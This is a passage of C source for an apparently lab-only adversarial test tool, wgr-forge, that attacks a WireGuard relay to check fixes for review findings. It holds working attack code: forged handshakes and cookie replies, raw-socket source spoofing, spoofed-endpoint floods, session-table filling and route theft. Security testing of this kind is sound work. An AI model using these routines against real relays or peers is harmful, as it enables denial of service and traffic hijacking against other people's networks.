// SPDX-License-Identifier: GPL-2.0
/*
 * wgr-forge: an attacker on the Internet, for the lab only. It knows every public
 * key and sends what such an attacker can make: handshake messages with valid
 * mac1, data messages with guessed indices, and garbage, at a bounded rate.
 *
 *   wgr-forge MODE ADDR PORT COUNT PPS [PUBKEY...]
 *
 * MODE: garbage     random bytes of random length (0-1500), some with valid types
 *       initiation  148-byte initiations, random sender, mac1 valid for PUBKEY
 *       response    92-byte responses, random indices, mac1 valid for PUBKEY
 *       cookie      64-byte cookie replies to random indices
 *       data        type-4 messages with random receiver indices and counters
 * initiation and response take more than one PUBKEY too (up to 1024): each
 * datagram's mac1 is then valid for the next one in turn.
 * PPS bounds the rate; COUNT the total. Exits 0 when all were sent.
 *
 *   wgr-forge stage ADDR PORT PUB_BAIT PUB_TARGET PUB_VICTIM
 *
 * Plays both ends of a handshake through discovery, from two sockets of its own:
 * socket B initiates to BAIT (so that it is a discovery candidate), socket A
 * initiates to TARGET, B answers the copy the relay sends it with a response
 * whose mac1 names VICTIM, and A sends the first data on it. To the relay this
 * looks like VICTIM (at A) completing a handshake with TARGET (at B). Exits 0 if
 * the relay passed on every step (B got the copy, A got the response).
 *
 *   wgr-forge hold ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
 *
 * stage, kept up for SECONDS from the same two sockets: it stages again every
 * 5 s, sends data every 5 s on every index it holds (the responder's index from
 * A, the initiator's from B, of each staged handshake the relay passed on), and
 * answers every other initiation copy it receives with forged responses whose
 * mac1 names each of the three keys in turn. A cookie reply from the relay is
 * opened (its key derives from the public key the initiation named) and its
 * cookie puts a valid mac2 on that socket's next initiations, as a stock peer
 * would: relay load and discovery limits cannot tell it from one. Prints what it
 * achieved; exits 0.
 *
 *   wgr-forge holdself ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
 *
 * hold, answering every other initiation copy with responses whose sender
 * index is the initiation's own (pass 6, G1: the index a real response then
 * needs looks taken).
 *
 *   wgr-forge holdconfirm ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
 *                         VICTIM_ADDR VICTIM_PORT TARGET_ADDR TARGET_PORT [PUB_OTHER...]
 *
 * hold, and every forged answer to a real initiation is confirmed: the first
 * data on it, spoofed "from" the initiator's endpoint (VICTIM's for an
 * initiation whose mac1 names TARGET, TARGET's for one naming VICTIM). Where a
 * confirmation cleared a source's failing tries, the squatted pair never
 * reached discovery on failure (a review of eb9c2b4's fix for R3-F1). With
 * PUB_OTHER keys (up to 8), it then also spoofs "from" the initiator one
 * initiation (without mac2) for each: where those pushed the initiator's
 * failing tries out of the relay's memory of its recent targets, that kept it
 * from discovery on failure too.
 *
 *   wgr-forge squat ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM PUB_BAIT2 PUB_TARGET2
 *
 * Squat, then corroborate: hold with BAIT, TARGET and VICTIM (an offline peer,
 * which the relay then has at socket A) until a staging passes or a third of
 * SECONDS is up, then on from the same sockets with BAIT2 and TARGET2 (a peer
 * that is talking): A, VICTIM's squatted endpoint, initiates to TARGET2, and B
 * answers the copy in TARGET2's name.
 *
 *   wgr-forge mix ADDR PORT SECONDS PPS PUBKEY NPORTS
 *
 * An even stream of PPS datagrams a second for SECONDS, sent round-robin from
 * NPORTS sockets of their own: every fourth an initiation with mac1 valid for
 * PUBKEY, the others alternately responses with mac1 for PUBKEY and cookie
 * replies, all with random indices (a CGNAT neighbour's junk).
 *
 *   wgr-forge cookieslot ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
 *
 * Cookie replies forged in TARGET's name (helper-79, H2), from an endpoint the
 * relay has a session of TARGET's at: it stages one as hold does (VICTIM at A,
 * TARGET at B), then A initiates to TARGET once a second without mac2, which
 * the pair route takes to B alone, and B answers each with two cookie replies
 * sealed under TARGET's cookie key (the key is public), as only TARGET should.
 * Prints "forging from now on" once staged; exits 0 if it forged any. SIGTERM
 * ends it early, with its report.
 *
 *   wgr-forge cookieplant ADDR PORT SECONDS PUB_TARGET TARGET_ADDR TARGET_PORT
 *
 * A wrong cookie planted at TARGET's own endpoint (helper-81, K1): once a
 * second, an initiation for TARGET without mac2 and at once two cookie replies
 * to it spoofed "from" TARGET_ADDR:TARGET_PORT, sealed in TARGET's name. Needs
 * CAP_NET_RAW. SIGTERM ends it early; exits 0 if it spoofed any.
 *
 *   wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]
 *
 * One type-4 message on receiver INDEX (hex, as /proc/net/wgrelay prints it)
 * with counter COUNTER (decimal), sent from local UDP port SPORT (0: any), with
 * IP TTL (hop limit) TTL if given.
 *
 *   wgr-forge spoof SRC_ADDR SRC_PORT ADDR PORT MODE COUNT [PUBKEY [PPS]]
 *
 * COUNT datagrams of MODE (as above) sent from a raw socket with a forged source
 * SRC_ADDR:SRC_PORT (IPv4 or IPv6), PPS a second (default 10). Needs
 * CAP_NET_RAW. MODE may also be data=INDEX:COUNTER: type-4 messages on
 * receiver INDEX (hex) with counters from COUNTER (decimal) up, one more each;
 * or marked: initiations for PUBKEY marked as drain's are (below).
 *
 *   wgr-forge srcflood ADDR PORT SECONDS PPS SPOOF_BASE NADDR NPORTS PUBKEY
 *
 * PPS initiations a second for SECONDS, without mac2, mac1 valid for PUBKEY, each
 * from the next of NADDR x NPORTS spoofed endpoints: addresses SPOOF_BASE and
 * up (its last byte counts up), ports 40000 and up. Every one is a new source to
 * a relay that has forgotten it: a prefix's memory of sources filled by a
 * spoofer (a fifth review, T1). Needs CAP_NET_RAW. Exits 0.
 *
 *   wgr-forge thinflood ADDR PORT SECONDS PPS SPOOF_BASE NPREFIXES PUBKEY
 *
 * srcflood spread thin: each initiation from the next of NPREFIXES spoofed
 * prefixes, one endpoint in each (SPOOF_BASE's address in the next IPv4 /24 or
 * IPv6 /48 up, port 40000). Each prefix then holds one source, so that a few
 * real sources in any other prefix hold the most (the second review of
 * session 20, F3). Needs CAP_NET_RAW. Exits 0.
 *
 *   wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM [SECONDS]
 *
 * A spoofer's staging: socket A initiates to TARGET; a response naming VICTIM
 * is sent from a raw socket as if from SPOOF_ADDR:SPOOF_PORT (TARGET's static
 * endpoint, which the spoofer cannot receive at), and if the relay passes it on
 * to A, A sends the first data on it. Repeats every 5 s for SECONDS (default
 * one round). Prints how many rounds the relay passed on; exits 0.
 *
 *   wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM SECONDS PPS [prove]
 *
 * A spoofer spends a real peer's stamps at a loaded target (helper-84): it
 * stages as spoofstage does, the response "from" SPOOF_ADDR:SPOOF_PORT, where
 * TARGET talks, so that its route from socket A ends where VICTIM's real one
 * does; again 30 s after one passed, 5 s after one did not. In between, A
 * initiates to TARGET PPS times a second, without mac2, along that route. Each
 * of A's initiations (its stagings' too) has an ephemeral key that begins with
 * the bytes de ad be ef (udp[16:4] == 0xdeadbeef), so that a capture tells them
 * from a real peer's. VICTIM may be an offline peer: the staging then gives it
 * a binding at A. With "prove", A keeps the relay's cookie from its cookie
 * replies and puts the relay's mac2 on its initiations (renewed after 60 s):
 * it shows the relay that it receives at its address. Needs CAP_NET_RAW.
 * With WGR_FORGE_SPOOF_NETNS set to a network namespace's path, A is made
 * where wgr-forge runs and the forged response leaves from that namespace: a
 * neighbour behind a peer's carrier NAT (whose own source the NAT rewrites)
 * receives at A, and a forger elsewhere spoofs the target's endpoint (a split
 * attacker, helper-87's sixth finding). Needs CAP_SYS_ADMIN for that.
 * Prints how many stagings the relay passed on, how many initiations A sent
 * and how many with mac2, and the receiver index of the last staged session
 * that A confirmed (hex, as /proc/net/wgrelay prints it: data on it from A
 * keeps VICTIM's binding there live); exits 0. SIGTERM ends it early, with
 * its report.
 *
 *   wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS
 *
 * drain, blind (helper-86): socket A is GHOST_ADDR:GHOST_PORT, forged, an
 * address the attacker never receives at (one in a real peer's network).
 * Every 30 s it stages a route from there in GHOST's name (an offline peer: the
 * staging gives it a binding there) without seeing whether the relay took it:
 * the initiation and the data from raw sockets, the response "from"
 * SPOOF_ADDR:SPOOF_PORT. In between, PPS marked initiations a second "from" A.
 * Needs CAP_NET_RAW. Prints what it sent; exits 0. SIGTERM ends it early.
 *
 *   wgr-forge respdrain ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_X PUB_LAPTOP L_ADDR L_PORT PPS
 *
 * A squatter spends a loaded initiator's handshake budget for the relay's
 * address (design pass 10, R1). It squats X (an offline peer) at socket A as
 * hold does (BAIT, TARGET, VICTIM X) and keeps it there; prints "squatted x at
 * A" once a staging passed. From then on PPS initiations a second for X, without
 * mac2 and marked as drain's, spoofed "from" L_ADDR:L_PORT, the laptop's
 * endpoint: the relay takes them to A. A answers each copy with two responses
 * naming LAPTOP (the second half a period later), which the relay passes on to
 * the laptop. A loaded laptop answers those with a cookie reply, which the relay
 * passes on to A: it is opened (the laptop's cookie key and the response's
 * mac1, both known), its tag checked, and the cookie puts the laptop's mac2 on
 * every response from then on. Needs CAP_NET_RAW; WGR_FORGE_SPOOF_NETNS as for
 * drain. Prints "spoofed N", "copies answered C", "laptop cookies opened K" and
 * "responses with the laptop's mac2 S", a line each; exits 0. SIGTERM ends it
 * early, with its report.
 *
 *   wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS
 *
 * A spoofer steals the pair route of V (at V_ADDR:V_PORT) to Q (at Q_ADDR:Q_PORT),
 * two peers that talk through the relay (pass 6, G6). From raw sockets it stages
 * a session of its own between their endpoints: an initiation to Q "from" V, a
 * response to it naming V "from" Q, the first data "from" V. Then one data
 * message on the staged initiator index from its own socket Z roams Q's half of
 * it to Z: V's next initiations to Q follow the route there. For SECONDS it keeps
 * that session alive (data from Z every 5 s) and answers every initiation that
 * reaches Z with a response naming V, from Z, and the first data "from" V, so
 * that a staged session of its own is confirmed beside each real one, with
 * ANSWERS responses to each (default 1; every one a session on its index).
 * Prints what it achieved; exits 0.
 *
 *   wgr-forge stealback ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
 *
 * steal, but Q's half of the staged session is roamed to V's own endpoint (and
 * kept alive there) by data spoofed "from" V: the route leads V's initiations
 * back to V (review of 89ac1cf, F1).
 *
 *   wgr-forge stealforge ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
 *
 * steal, and every initiation that reaches Z is also answered at once with two
 * responses naming V spoofed "from" Q: where the relay sent the same initiation
 * to Q too, Q's endpoint has then given all the answers it may, and Q's own is
 * refused (review of 8ae0eb7, M1).
 *
 *   wgr-forge stealprime ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
 *
 * stealforge, and Z becomes a discovery candidate (an initiation for V with the
 * relay's mac2 every 10 s, on the cookie the relay sent Z), while the spoofer
 * primes failure: an initiation for Q spoofed "from" V every 5 s, until V's own
 * first try reaches Z along the route. Where such tries counted, V's retry 5 s
 * later was failing and went to the candidates too, Z among them (review of
 * eb9c2b4, R3-F1). The sessions it answers are left unconfirmed and unheld: a
 * confirmation "from" V would end V's failing run, and hide the flaw.
 *
 *   wgr-forge fill ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
 *
 * Fills a relay's session table with confirmed pairs of its own, as an insider
 * whose peer TARGET has a static endpoint at this host's port BPORT (socket B)
 * can: NPORTS sockets A initiate to TARGET, PPS a second in all, round-robin; B
 * answers every copy with a response whose mac1 names the next PUB_NAME; A
 * sends the first data on every response the relay passes on. Every such pair
 * is counted against this host's prefix. Prints what it achieved; exits 0.
 *
 *   wgr-forge chain ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
 *
 * fill, with one sender index for every initiation: a chain of sessions on one
 * receiver index, from NPORTS initiator endpoints (pass 5, F3 and F6).
 *
 *   wgr-forge late ADDR PORT BPORT DELAY PUB_TARGET PUB_NAME
 *
 * One pair as fill makes it (TARGET's static endpoint at this host's port
 * BPORT), but socket A sends the first data DELAY seconds after the response
 * reached it: a tentative session left to age (pass 6, G11). Prints the index
 * the data went on; exits 0 if the relay passed the response on.
 *
 *   wgr-forge mac2junk ADDR PORT SECONDS PPS NPORTS PUBKEY
 *
 * Junk that the relay counts as verified (pass 5, F1): each of NPORTS sockets
 * first earns the relay's cookie with one initiation whose mac1 is valid for
 * PUBKEY, then all send initiations with a random mac1 (nobody's: a scan of
 * every peer finds no one) and a valid mac2, PPS a second in all, for SECONDS.
 *
 *   wgr-forge mac2for ADDR PORT SECONDS PPS NPORTS PUBKEY [FROM [NPREFIXES]]
 *
 * mac2junk, but every initiation's mac1 stays valid for PUBKEY: a host that
 * proved its address initiates to PUBKEY (an offline peer: each is copied to
 * discovery candidates) as fast as the relay lets it (a fifth review, T3).
 * Either sends from FROM, one of this host's addresses, if given: one process
 * for each of an attacker's addresses (a crowd of discovery candidates, C6).
 * NPORTS goes to 1000: each port that earned a cookie and sends again within
 * 30 s stays a discovery candidate, so a few addresses keep thousands of them
 * (the walk budget). Cookies are asked for at 50 a second, under the relay's
 * 100 a second for one address, so that none is refused. With NPREFIXES, port
 * i sends from FROM's address in the (i mod NPREFIXES)th IPv4 /24 or IPv6 /48
 * up (thinflood's steps), each one of this host's addresses: real sources
 * spread one to a prefix, as an owner of an IPv6 /32 has 65,536 /48s (a
 * review of session 21, A2).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "../unit/blake2s.h"
#include "encoding.h"
#include "wgr-common.h"

static size_t make(const char *mode, uint8_t *msg, const uint8_t *pub)
{
	uint16_t r16;
	size_t len;

	if (!strcmp(mode, "garbage")) {
		fill_random(&r16, sizeof(r16));
		len = r16 % 1501;
		fill_random(msg, len);
		/* A quarter look like WireGuard at a glance: a valid type byte. */
		if (len >= 4 && r16 % 4 == 0) {
			msg[0] = (uint8_t)(1 + r16 % 4);
			if (r16 % 8 == 0)
				msg[1] = msg[2] = msg[3] = 0;
		}
		return len;
	}
	if (!strcmp(mode, "initiation")) {
		fill_random(msg, 148);
		memcpy(msg, "\1\0\0\0", 4);
		set_mac1(msg, 116, pub);
		return 148;
	}
	if (!strcmp(mode, "response")) {
		fill_random(msg, 92);
		memcpy(msg, "\2\0\0\0", 4);
		set_mac1(msg, 60, pub);
		return 92;
	}
	if (!strcmp(mode, "cookie")) {
		fill_random(msg, 64);
		memcpy(msg, "\3\0\0\0", 4);
		return 64;
	}
	if (!strcmp(mode, "data")) {
		fill_random(&r16, sizeof(r16));
		len = 32 + 16 * (r16 % 8);
		fill_random(msg, len);
		memcpy(msg, "\4\0\0\0", 4);
		return len;
	}
	return 0;
}


/* --- WireGuard cookie replies (whitepaper 5.4.7): XChaCha20-Poly1305 --------- */

#define ROTL(v, n) ((v) << (n) | (v) >> (32 - (n)))
#define QR(a, b, c, d) (a += b, d ^= a, d = ROTL(d, 16), c += d, b ^= c, b = ROTL(b, 12), \
			a += b, d ^= a, d = ROTL(d, 8), c += d, b ^= c, b = ROTL(b, 7))

static void chacha_rounds(uint32_t x[16])
{
	for (int i = 0; i < 10; i++) {
		QR(x[0], x[4], x[8], x[12]); QR(x[1], x[5], x[9], x[13]);
		QR(x[2], x[6], x[10], x[14]); QR(x[3], x[7], x[11], x[15]);
		QR(x[0], x[5], x[10], x[15]); QR(x[1], x[6], x[11], x[12]);
		QR(x[2], x[7], x[8], x[13]); QR(x[3], x[4], x[9], x[14]);
	}
}

static uint32_t le32(const uint8_t *p)
{
	return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
}

static void chacha_init(uint32_t x[16], const uint8_t key[32])
{
	x[0] = 0x61707865; x[1] = 0x3320646e; x[2] = 0x79622d32; x[3] = 0x6b206574;
	for (int i = 0; i < 8; i++)
		x[4 + i] = le32(key + 4 * i);
}

/* HChaCha20: the XChaCha20 subkey from @key and the first 16 bytes of the nonce. */
static void hchacha20(uint8_t out[32], const uint8_t key[32], const uint8_t nonce[16])
{
	uint32_t x[16];

	chacha_init(x, key);
	for (int i = 0; i < 4; i++)
		x[12 + i] = le32(nonce + 4 * i);
	chacha_rounds(x);
	for (int i = 0; i < 4; i++) {
		put_le32(out + 4 * i, x[i]);
		put_le32(out + 16 + 4 * i, x[12 + i]);
	}
}

/* Keystream block @block of XChaCha20 under subkey @sub, with the nonce's last 8 bytes. */
static void xchacha20_block(uint8_t out[64], const uint8_t sub[32], uint32_t block,
			    const uint8_t nonce[24])
{
	uint32_t x[16], in[16];

	chacha_init(in, sub);
	in[12] = block;
	in[13] = 0;
	in[14] = le32(nonce + 16);
	in[15] = le32(nonce + 20);
	memcpy(x, in, sizeof(x));
	chacha_rounds(x);
	for (int i = 0; i < 16; i++)
		put_le32(out + 4 * i, x[i] + in[i]);
}

/* XChaCha20 keystream XOR, from block 1 (block 0 is Poly1305's key in the AEAD). */
static void xchacha20_xor(uint8_t *buf, size_t len, const uint8_t key[32], const uint8_t nonce[24])
{
	uint8_t sub[32], ks[64];

	hchacha20(sub, key, nonce);
	for (size_t off = 0, block = 1; off < len; off += 64, block++) {
		xchacha20_block(ks, sub, (uint32_t)block, nonce);
		for (size_t i = 0; i < 64 && off + i < len; i++)
			buf[off + i] ^= ks[i];
	}
}

/*
 * The cookie in a cookie reply answering an initiation for @pub: encrypted under
 * HASH("cookie--" || pub), as stock WireGuard's (and wgrelay v2's) are. The tag is
 * not checked: a wrong cookie only makes a wrong mac2.
 */
static void cookie_key(uint8_t key[32], const uint8_t *pub);

static void cookie_open(uint8_t cookie[16], const uint8_t *reply, const uint8_t *pub)
{
	uint8_t key[32];

	cookie_key(key, pub);
	memcpy(cookie, reply + 32, 16);
	xchacha20_xor(cookie, 16, key, reply + 8);
}

/*
 * Poly1305 (RFC 8439, 2.5) in three limbs: h = h0 + h1 * 2^64 + h2 * 2^128,
 * reduced modulo 2^130 - 5 after each block. Clamping clears the low two bits
 * of r's upper half, so h1 * r1 * 2^128 = h1 * (r1 / 4) * 2^130, which is
 * h1 * (r1 / 4) * 5 modulo p: s1 below.
 */
struct poly1305 {
	uint64_t r0, r1, s1, h0, h1, h2, pad0, pad1;
};

static uint64_t le64(const uint8_t *p)
{
	return le32(p) | (uint64_t)le32(p + 4) << 32;
}

static void poly1305_init(struct poly1305 *p, const uint8_t key[32])
{
	p->r0 = le64(key) & 0x0ffffffc0fffffffULL;
	p->r1 = le64(key + 8) & 0x0ffffffc0ffffffcULL;
	p->s1 = p->r1 + (p->r1 >> 2);
	p->h0 = p->h1 = p->h2 = 0;
	p->pad0 = le64(key + 16);
	p->pad1 = le64(key + 24);
}

/* One block of up to 16 bytes; a short one is padded with 1 then zeros. */
static void poly1305_block(struct poly1305 *p, const uint8_t *m, size_t len)
{
	uint8_t b[16] = { 0 };
	unsigned __int128 d0, d1, d2;
	uint64_t c;

	memcpy(b, m, len);
	if (len < 16)
		b[len] = 1;
	d0 = (unsigned __int128)p->h0 + le64(b);
	d1 = (unsigned __int128)p->h1 + le64(b + 8) + (uint64_t)(d0 >> 64);
	p->h0 = (uint64_t)d0;
	p->h1 = (uint64_t)d1;
	p->h2 += (uint64_t)(d1 >> 64) + (len == 16);
	/* h *= r, modulo 2^130 - 5 */
	d0 = (unsigned __int128)p->h0 * p->r0 + (unsigned __int128)p->h1 * p->s1;
	d1 = (unsigned __int128)p->h0 * p->r1 + (unsigned __int128)p->h1 * p->r0 +
	     (unsigned __int128)p->h2 * p->s1;
	d2 = (unsigned __int128)p->h2 * p->r0;
	d1 += (uint64_t)(d0 >> 64);
	d2 += (uint64_t)(d1 >> 64);
	p->h0 = (uint64_t)d0;
	p->h1 = (uint64_t)d1;
	p->h2 = (uint64_t)d2 & 3;
	c = (uint64_t)(d2 >> 2) * 5;	/* 2^130 = 5 */
	d0 = (unsigned __int128)p->h0 + c;
	d1 = (unsigned __int128)p->h1 + (uint64_t)(d0 >> 64);
	p->h0 = (uint64_t)d0;
	p->h1 = (uint64_t)d1;
	p->h2 += (uint64_t)(d1 >> 64);
}

static void poly1305_update(struct poly1305 *p, const uint8_t *m, size_t len)
{
	for (; len; m += len < 16 ? len : 16, len -= len < 16 ? len : 16)
		poly1305_block(p, m, len < 16 ? len : 16);
}

static void poly1305_final(struct poly1305 *p, uint8_t tag[16])
{
	unsigned __int128 g0, g1;
	uint64_t g2;

	/* h fully reduced: h + 5 reaches 2^130 exactly when h >= p. */
	g0 = (unsigned __int128)p->h0 + 5;
	g1 = (unsigned __int128)p->h1 + (uint64_t)(g0 >> 64);
	g2 = p->h2 + (uint64_t)(g1 >> 64);
	if (g2 >> 2) {
		p->h0 = (uint64_t)g0;
		p->h1 = (uint64_t)g1;
	}
	g0 = (unsigned __int128)p->h0 + p->pad0;
	g1 = (unsigned __int128)p->h1 + p->pad1 + (uint64_t)(g0 >> 64);
	put_le32(tag, (uint32_t)g0);
	put_le32(tag + 4, (uint32_t)((uint64_t)g0 >> 32));
	put_le32(tag + 8, (uint32_t)g1);
	put_le32(tag + 12, (uint32_t)((uint64_t)g1 >> 32));
}

/*
 * XChaCha20-Poly1305 (draft-irtf-cfrg-xchacha): @buf (@len bytes) encrypted in
 * place, its 16-byte tag after it, over @ad too; each at most SEAL_MAX bytes.
 * Poly1305's key is the first 32 bytes of block 0 of the keystream that
 * xchacha20_xor() starts at block 1 of.
 */
#define SEAL_MAX 64

static void xchacha20poly1305_seal(uint8_t *buf, size_t len, const uint8_t *ad, size_t ad_len,
				   const uint8_t nonce[24], const uint8_t key[32])
{
	uint8_t sub[32], block0[64], mac_in[2 * SEAL_MAX + 16];
	struct poly1305 p;
	size_t n;

	if (len > SEAL_MAX || ad_len > SEAL_MAX)
		abort();
	hchacha20(sub, key, nonce);
	xchacha20_block(block0, sub, 0, nonce);
	xchacha20_xor(buf, len, key, nonce);
	/* What is authenticated: each part padded with zeros to whole blocks. */
	memset(mac_in, 0, sizeof(mac_in));
	memcpy(mac_in, ad, ad_len);
	n = (ad_len + 15) / 16 * 16;
	memcpy(mac_in + n, buf, len);
	n += (len + 15) / 16 * 16;
	put_le32(mac_in + n, (uint32_t)ad_len);
	put_le32(mac_in + n + 8, (uint32_t)len);
	poly1305_init(&p, block0);
	poly1305_update(&p, mac_in, n + 16);
	poly1305_final(&p, buf + len);
}

/* HASH("cookie--" || pub): the key cookie replies in @pub's name are sealed with. */
static void cookie_key(uint8_t key[32], const uint8_t *pub)
{
	uint8_t label[40];

	memcpy(label, "cookie--", 8);
	memcpy(label + 8, pub, 32);
	test_blake2s(key, 32, label, sizeof(label), NULL, 0);
}

/*
 * A cookie reply in @pub's name to an initiation with sender index @sender and
 * mac1 @mac1, as only @pub's owner should make it: a random cookie, sealed.
 */
static void cookie_forge(uint8_t reply[64], uint32_t sender, const uint8_t mac1[16],
			 const uint8_t *pub)
{
	uint8_t key[32];

	memset(reply, 0, 64);
	reply[0] = 3;
	put_le32(reply + 4, sender);
	fill_random(reply + 8, 24 + 16);	/* nonce, cookie */
	cookie_key(key, pub);
	xchacha20poly1305_seal(reply + 32, 16, mac1, 16, reply + 8, key);
}

/* mac2 over a handshake message of @len bytes whose mac1 is set: its last 16 bytes. */
static void set_mac2(uint8_t *msg, size_t len, const uint8_t cookie[16])
{
	test_blake2s(msg + len - 16, 16, msg, len - 16, cookie, 16);
}

/*
 * cookie_open(), and the tag checked: sealed again under @pub's cookie key
 * with @mac1 (the message it answers) as associated data, it must come out as
 * it came. Return: true if it did (only then is @cookie the sender's).
 */
static bool cookie_open_checked(uint8_t cookie[16], const uint8_t *reply, const uint8_t mac1[16],
				const uint8_t *pub)
{
	uint8_t key[32], buf[32];

	cookie_open(cookie, reply, pub);
	cookie_key(key, pub);
	memcpy(buf, cookie, 16);
	xchacha20poly1305_seal(buf, 16, mac1, 16, reply + 8, key);
	return !memcmp(buf, reply + 32, sizeof(buf));
}

/* Where stage_socket()'s sockets send from: any address if unset (family 0). */
static struct sockaddr_storage stage_from;

static int stage_socket(const struct sockaddr_storage *to, socklen_t len)
{
	struct timeval tv = { .tv_sec = 3 };
	int fd = socket(to->ss_family, SOCK_DGRAM, 0);

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) ||
	    (stage_from.ss_family && bind(fd, (const struct sockaddr *)&stage_from, len)) ||
	    connect(fd, (const struct sockaddr *)to, len)) {
		perror("wgr-forge: stage socket");
		exit(1);
	}
	return fd;
}

/* Receive until a message of @type comes, or time runs out. */
static int stage_wait(int fd, uint8_t type, uint8_t *buf, size_t len)
{
	for (int i = 0; i < 20; i++) {
		ssize_t n = recv(fd, buf, len, 0);

		if (n < 0)
			return -1;
		if (n >= 4 && buf[0] == type)
			return (int)n;
	}
	return -1;
}

/* Set the port (network order) of @ss, an IPv4 or IPv6 address. */
static void set_port(struct sockaddr_storage *ss, in_port_t port)
{
	if (ss->ss_family == AF_INET)
		((struct sockaddr_in *)ss)->sin_port = port;
	else
		((struct sockaddr_in6 *)ss)->sin6_port = port;
}

/* Bind @fd to @port (any address) of @to's family. */
static int bind_port(int fd, const struct sockaddr_storage *to, socklen_t len, long port)
{
	struct sockaddr_storage local;

	memset(&local, 0, sizeof(local));
	local.ss_family = to->ss_family;
	set_port(&local, htons((uint16_t)port));
	return bind(fd, (struct sockaddr *)&local, len);
}

/* An initiation for @pub with sender index @sender, mac1 valid for @pub. */
static void initiation_from(uint8_t *msg, const uint8_t *pub, uint32_t sender)
{
	make("initiation", msg, pub);
	put_le32(msg + 4, sender);
	set_mac1(msg, 116, pub);
}

/* A response from index @index to @receiver, mac1 valid for @pub. */
static void response_from(uint8_t *msg, const uint8_t *pub, uint32_t index, uint32_t receiver)
{
	make("response", msg, pub);
	put_le32(msg + 4, index);
	put_le32(msg + 8, receiver);
	set_mac1(msg, 60, pub);
}

static int stage(const struct sockaddr_storage *to, socklen_t len, char **keys)
{
	uint8_t bait[32], target[32], victim[32], msg[1600];
	uint32_t s_index, r_index;
	int a, b;

	if (!key_from_base64(bait, keys[0]) || !key_from_base64(target, keys[1]) ||
	    !key_from_base64(victim, keys[2])) {
		fprintf(stderr, "wgr-forge: stage needs three base64 public keys\n");
		return 2;
	}
	a = stage_socket(to, len);
	b = stage_socket(to, len);
	fill_random(&s_index, sizeof(s_index));
	fill_random(&r_index, sizeof(r_index));

	make("initiation", msg, bait);
	if (send(b, msg, 148, 0) < 0)
		return perror("send"), 1;
	usleep(200000);
	initiation_from(msg, target, s_index);
	if (send(a, msg, 148, 0) < 0)
		return perror("send"), 1;
	if (stage_wait(b, 1, msg, sizeof(msg)) != 148) {
		fprintf(stderr, "wgr-forge: stage: B got no discovery copy\n");
		return 1;
	}
	response_from(msg, victim, r_index, s_index);
	if (send(b, msg, 92, 0) < 0)
		return perror("send"), 1;
	if (stage_wait(a, 2, msg, sizeof(msg)) != 92) {
		fprintf(stderr, "wgr-forge: stage: A got no response\n");
		return 1;
	}
	make("data", msg, NULL);
	put_le32(msg + 4, r_index);
	memset(msg + 8, 0, 8);
	if (send(a, msg, 32, 0) < 0)
		return perror("send"), 1;
	printf("staged: victim at A, target at B\n");
	return 0;
}


/* --- hold, onedata, spoof, spoofstage ------------------------------------------ */

/* An initiation for @pub from a fresh sender index (returned), mac1 valid for @pub. */
static uint32_t make_initiation(uint8_t *msg, const uint8_t *pub)
{
	uint32_t idx;

	fill_random(&idx, sizeof(idx));
	initiation_from(msg, pub, idx);
	return idx;
}

/*
 * An initiation from a fresh index (returned), mac1 valid for @pub, marked as
 * drain's: its ephemeral key begins with de ad be ef. The marker goes in
 * before mac1, which covers it.
 */
static uint32_t marked_initiation(uint8_t *msg, const uint8_t *pub)
{
	uint32_t idx = make_initiation(msg, pub);

	memcpy(msg + 8, "\xde\xad\xbe\xef", 4);
	set_mac1(msg, 116, pub);
	return idx;
}

/* A response to @sender, from a fresh index (returned), mac1 valid for @pub. */
static uint32_t make_response(uint8_t *msg, uint32_t sender, const uint8_t *pub)
{
	uint32_t idx;

	fill_random(&idx, sizeof(idx));
	response_from(msg, pub, idx, sender);
	return idx;
}

static void make_data(uint8_t *msg, uint32_t index, uint64_t counter)
{
	fill_random(msg, 32);
	memcpy(msg, "\4\0\0\0", 4);
	put_le32(msg + 4, index);
	put_le64(msg + 8, counter);
}

/* Advance @next by one period of a @pps-a-second stream. */
static void next_tick(struct timespec *next, long pps)
{
	next->tv_nsec += 1000000000L / pps;
	while (next->tv_nsec >= 1000000000L) {
		next->tv_nsec -= 1000000000L;
		next->tv_sec++;
	}
}

#define HOLD_MAX 32

struct held {
	int fd;
	uint32_t index;
	uint64_t counter;
};

/* One of hold's sockets, and the relay's cookie for it (mac2, whitepaper 5.4.4). */
struct hsock {
	int fd;
	uint32_t last_sender;
	const uint8_t *last_pub;
	uint8_t cookie[16];
	double cookie_time;
};

/* An initiation for @pub from @hs with sender index @sender; mac2 if it has a cookie. */
static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender, long *mac2)
{
	uint8_t msg[148];

	initiation_from(msg, pub, sender);
	memset(msg + 132, 0, 16);
